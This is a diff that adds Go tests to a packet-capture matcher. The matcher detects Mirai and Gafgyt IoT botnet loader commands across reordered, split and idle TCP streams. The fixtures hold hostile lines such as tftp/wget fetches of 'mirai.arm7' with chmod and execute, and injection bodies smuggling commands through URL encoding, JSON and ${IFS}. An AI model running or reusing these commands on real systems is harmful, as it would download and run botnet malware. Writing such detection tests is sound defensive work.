@@ -332,3 +332,263 @@ func TestStreamEndOfCapture(t *testing.T) {
 		}
 	}
 }
+
+// TestStreamOpenCommandEnds: a fetch of an unlisted name left open (no
+// separator after it, no FIN, the connection kept) is reported weak when
+// its stream goes idle, at its last segment and before what the capture
+// holds after that, and when a flood pushes its stream out of the table;
+// a name typed a key at a time and completed within the idle time is
+// never reported by its first letters.
+func TestStreamOpenCommandEnds(t *testing.T) {
+	segs := []tseg{
+		{sport: 7001, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"},
+		{sport: 7002, dport: 23, seq: 1, payload: "tftp -g -r t"},
+		{sport: 7002, dport: 23, seq: 13, payload: "ftp1.sh 10.0.0.9"},
+	}
+	// Six minutes later (streamPcap spaces packets a millisecond apart).
+	for range 6 * 60 * 1000 / 1 / 1000 {
+		segs = append(segs, tseg{sport: 9, dport: 9, seq: 1, payload: "."})
+	}
+	evs, _ := scanBytes(t, streamIdlePcap(t, segs, map[int]time.Duration{3: 6 * time.Minute}), Options{})
+	got := found(evs, 7001)
+	if !slices.Equal(got, []string{"iot.tftp-dropper.generic/weak"}) {
+		t.Fatalf("idle open command: %v", got)
+	}
+	if got := found(evs, 7002); !slices.Equal(got, []string{"gafgyt.tftp-loader/strong"}) {
+		t.Errorf("typed a key at a time: %v, want the strong finding alone", got)
+	}
+	for _, ev := range evs {
+		if ev.Port == 7001 && (ev.Packet != 1 || !ev.Time.Equal(baseTime)) {
+			t.Errorf("idle command reported at packet %d (%s), want its own, packet 1", ev.Packet, ev.Time)
+		}
+	}
+
+	// The idle end comes in capture time: a loader line six minutes later
+	// is recorded after it, not before (as it would be at the file's end).
+	segs = []tseg{
+		{sport: 7011, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"},
+		{sport: 7012, dport: 23, seq: 1, payload: "tftp -g -r mirai.arm7 10.0.0.9\r\n"},
+	}
+	evs, _ = scanBytes(t, streamIdlePcap(t, segs, map[int]time.Duration{1: 6 * time.Minute}), Options{})
+	var order []string
+	for _, ev := range evs {
+		order = append(order, fmt.Sprintf("%d:%s", ev.Port, ev.Sig))
+	}
+	if want := []string{"7011:iot.tftp-dropper.generic", "7012:mirai.tftp-loader"}; !slices.Equal(order, want) {
+		t.Errorf("events %v, want %v", order, want)
+	}
+
+	// Pushed out: a table of one set of four, five streams with open
+	// commands: the first is reported when the fifth takes its entry.
+	segs = []tseg{{sport: 7021, dport: 23, seq: 1, payload: "tftp -g -r pushed.bin 10.0.0.9"}}
+	for p := uint16(7022); p < 7026; p++ {
+		segs = append(segs, tseg{sport: p, dport: 23, seq: 1, payload: "tftp -g -b 512"})
+	}
+	segs = append(segs, tseg{sport: 7030, dport: 23, seq: 1, payload: "tftp -g -r mirai.arm7 10.0.0.9\r\n"})
+	evs, st := scanBytes(t, streamPcap(t, segs), Options{Streams: 4})
+	order = order[:0]
+	for _, ev := range evs {
+		order = append(order, fmt.Sprintf("%d:%s", ev.Port, ev.Sig))
+	}
+	if want := []string{"7021:iot.tftp-dropper.generic", "7030:mirai.tftp-loader"}; !slices.Equal(order, want) {
+		t.Errorf("pushed out: events %v, want %v", order, want)
+	}
+	if st.StreamEvicted == 0 || st.StreamEnded == 0 {
+		t.Errorf("stats %+v: no stream pushed out and ended", st)
+	}
+}
+
+// streamIdlePcap is streamPcap with the packets from index i on moved
+// later by gap[i].
+func streamIdlePcap(t testing.TB, segs []tseg, gap map[int]time.Duration) []byte {
+	var buf bytes.Buffer
+	w := pcapgo.NewWriter(&buf)
+	if err := w.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
+		t.Fatal(err)
+	}
+	var shift time.Duration
+	for i, s := range segs {
+		shift += gap[i]
+		data := tcpSeg(t, infected, victim, s)
+		at := baseTime.Add(time.Duration(i)*time.Millisecond + shift)
+		if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: at, CaptureLength: len(data), Length: len(data)}, data); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return buf.Bytes()
+}
+
+// longCommands are loader lines longer than a stream's carried tail, with
+// the finding each must give.
+var longCommands = []struct {
+	port       uint16
+	line, want string
+}{
+	// A telnet line chaining many commands before the fetch.
+	{23, strings.Repeat("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ", 14) +
+		"wget http://10.0.0.9/bins/x.sh; tftp -g -r mirai.arm7 10.0.0.9; chmod 777 mirai.arm7; ./mirai.arm7 telnet\r\n", "mirai.tftp-loader/strong"},
+	// An exploit's URL-encoded body: no raw separator, only %20 spaces.
+	{80, "POST /cgi-bin/ping.cgi HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nip=127.0.0.1%20" +
+		strings.Repeat("x%20", 220) + "cd%20%2Ftmp%20%26%26%20busybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9", "mirai.tftp-loader/strong"},
+	// A JSON body whose string holds many words before the command.
+	{8080, "POST /api/diag HTTP/1.1\r\nHost: 10.0.0.5\r\n\r\n{\"host\":\"" + strings.Repeat("padding ", 90) +
+		" tftp -g -r tftp1.sh 10.0.0.9\"}", "gafgyt.tftp-loader/strong"},
+	// ${IFS}-spaced, no separator before the fetch; an unlisted name.
+	{80, "GET /x?c=" + strings.Repeat("${IFS}nop", 80) + "${IFS}tftp${IFS}-g${IFS}-r${IFS}update.bin${IFS}10.0.0.9 HTTP/1.1\r\n\r\n", "iot.tftp-dropper.generic/weak"},
+}
+
+// TestStreamLongCommand: a command line longer than the carried tail
+// (512 bytes) is found once however it is cut into segments: at every
+// size from a byte up, and at every offset into two.
+func TestStreamLongCommand(t *testing.T) {
+	for li, l := range longCommands {
+		if len(l.line) <= DefaultStreamTail+64 {
+			t.Fatalf("line %d is only %d bytes", li, len(l.line))
+		}
+		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
+		if got := found(whole, 50000); !slices.Equal(got, []string{l.want}) {
+			t.Fatalf("line %d whole: %v, want %s", li, got, l.want)
+		}
+		var segs []tseg
+		sport := uint16(1024)
+		for _, size := range []int{1, 7, 64, 200, 511, 512, 513, 536} {
+			for k := 0; k < len(l.line); k += size {
+				segs = append(segs, tseg{sport: sport, dport: l.port, seq: 5000 + uint32(k), payload: l.line[k:min(k+size, len(l.line))]})
+			}
+			sport++
+		}
+		for k := 1; k < len(l.line); k += 3 {
+			segs = append(segs, tseg{sport: sport, dport: l.port, seq: 7000, payload: l.line[:k]},
+				tseg{sport: sport, dport: l.port, seq: 7000 + uint32(k), payload: l.line[k:]})
+			sport++
+		}
+		evs, st := scanBytes(t, streamPcap(t, segs), Options{})
+		for p := uint16(1024); p < sport; p++ {
+			if got := found(evs, p); !slices.Equal(got, []string{l.want}) {
+				t.Errorf("line %d, stream %d: %v, want %s", li, p-1024, got, l.want)
+			}
+		}
+		if st.StreamLost != 0 {
+			t.Errorf("line %d: %d commands lost", li, st.StreamLost)
+		}
+	}
+}
+
+// TestStreamLongCommandFloodBounded: connections that each send a long
+// open line (longer than the tail, segment after segment) keep the table
+// at its size and the heap still, make no evidence, and lose nothing.
+func TestStreamLongCommandFloodBounded(t *testing.T) {
+	var rec evidencetest.Recorder
+	m := NewMatcher(StaticSet{signatures.Default()}, &rec, Options{Streams: 256, StreamTail: 256})
+	at := baseTime
+	body := strings.Repeat("x%20t%20", 60) // 480 bytes a segment, never a command
+	var frames [][]byte
+	for i := range 1024 {
+		src := net.IP{10, 1, byte(i >> 8), byte(i)}
+		for k := range 4 {
+			frames = append(frames, tcpSeg(t, src, victim, tseg{sport: uint16(1000 + i), dport: 80, seq: 1 + uint32(k*len(body)), payload: body}))
+		}
+	}
+	m.Packet(layers.LinkTypeEthernet, frames[0], Meta{Time: at})
+	table := m.streams
+	var before, after runtime.MemStats
+	runtime.GC()
+	runtime.ReadMemStats(&before)
+	for round := range 10 {
+		for _, f := range frames {
+			at = at.Add(time.Microsecond)
+			f[14+12] = byte(round + 20) // other connections each round
+			m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
+		}
+	}
+	runtime.GC()
+	runtime.ReadMemStats(&after)
+	if m.streams != table || len(table.buf)+len(table.held) != 2*256*256 {
+		t.Errorf("the table grew: %d bytes", len(m.streams.buf)+len(m.streams.held))
+	}
+	if grew := int64(after.HeapAlloc) - int64(before.HeapAlloc); grew > 1<<20 {
+		t.Errorf("heap grew by %d bytes", grew)
+	}
+	if st := m.Stats(); st.StreamLost != 0 || st.StreamJoined == 0 {
+		t.Errorf("stats %+v: want segments joined and nothing lost", st)
+	}
+	if n := rec.Len(); n != 0 {
+		t.Errorf("%d events", n)
+	}
+}
+
+// TestStreamReordered: a line whose second part arrives before its first
+// is read once, whole, as a TCP receiver would (the second part held until
+// the gap fills): mid-stream at every cut, and as a connection's first
+// bytes when the handshake says where they start. A gap never filled
+// reads what was held afresh, as before.
+func TestStreamReordered(t *testing.T) {
+	for li, l := range loaderLines {
+		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
+		want := found(whole, 50000)
+		if !signatures.Default().PayloadPort(signatures.TCP, l.port) || l.port == 4444 {
+			// A content rule's port (Blaster's shell): its option bytes
+			// are read alone (nothing in them can start its content), so
+			// nothing says the next segment is not the stream's first.
+			continue
+		}
+		var segs []tseg
+		sport := uint16(1024)
+		for k := 1; k < len(l.line); k++ {
+			// Telnet option bytes first, then the line's halves swapped.
+			segs = append(segs, tseg{sport: sport, dport: l.port, seq: 100, payload: "\xff\xfd\x01"},
+				tseg{sport: sport, dport: l.port, seq: 103 + uint32(k), payload: l.line[k:]},
+				tseg{sport: sport, dport: l.port, seq: 103, payload: l.line[:k]})
+			sport++
+		}
+		evs, st := scanBytes(t, streamPcap(t, segs), Options{})
+		for p := uint16(1024); p < sport; p++ {
+			if got := found(evs, p); !slices.Equal(got, want) {
+				t.Errorf("line %d swapped at %d: %v, want %v", li, p-1024+1, got, want)
+			}
+		}
+		if st.StreamHeld == 0 {
+			t.Errorf("line %d: nothing held", li)
+		}
+	}
+
+	// A connection's first segment late: the handshake says where its
+	// bytes start, so the second segment waits for it.
+	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; echo ok\r\n"
+	segs := []tseg{
+		{sport: 3100, dport: 23, seq: 999, syn: true},
+		{sport: 23, dport: 3100, seq: 4999, ack: 1000, synAck: true},
+		{sport: 3100, dport: 23, seq: 1000, ack: 5000},
+		{sport: 3100, dport: 23, seq: 1030, ack: 5000, payload: line[30:]},
+		{sport: 3100, dport: 23, seq: 1000, ack: 5000, payload: line[:30]},
+	}
+	evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
+	if got := found(evs, 3100); !slices.Equal(got, []string{"mirai.tftp-loader/strong"}) {
+		t.Errorf("first segment late: %v", got)
+	}
+	for _, ev := range evs {
+		if ev.Proof != evidence.ProofTCP {
+			t.Errorf("%s: proof %s, want tcp", short(ev), ev.Proof)
+		}
+	}
+
+	// A gap never filled: the held line is read afresh at the end, once;
+	// a hold that cannot take a second region reads the first afresh.
+	segs = []tseg{
+		{sport: 3200, dport: 23, seq: 100, payload: "\xff\xfd\x01"},
+		{sport: 3200, dport: 23, seq: 120, payload: "tftp -g -r tftp1.sh 10.0.0.9\r\n"},
+		{sport: 3201, dport: 23, seq: 100, payload: "\xff\xfd\x01"},
+		{sport: 3201, dport: 23, seq: 120, payload: "tftp -g -r tftp1.sh 10.0.0.9\r\n"},
+		{sport: 3201, dport: 23, seq: 400, payload: "tftp -g -r mirai.arm7 10.0.0.9\r\n"},
+	}
+	evs, st := scanBytes(t, streamPcap(t, segs), Options{})
+	if got := found(evs, 3200); !slices.Equal(got, []string{"gafgyt.tftp-loader/strong"}) {
+		t.Errorf("gap never filled: %v", got)
+	}
+	if got := found(evs, 3201); !slices.Equal(got, []string{"gafgyt.tftp-loader/strong", "mirai.tftp-loader/strong"}) {
+		t.Errorf("two gaps: %v", got)
+	}
+	if st.StreamGaps < 2 {
+		t.Errorf("%d gaps counted", st.StreamGaps)
+	}
+}
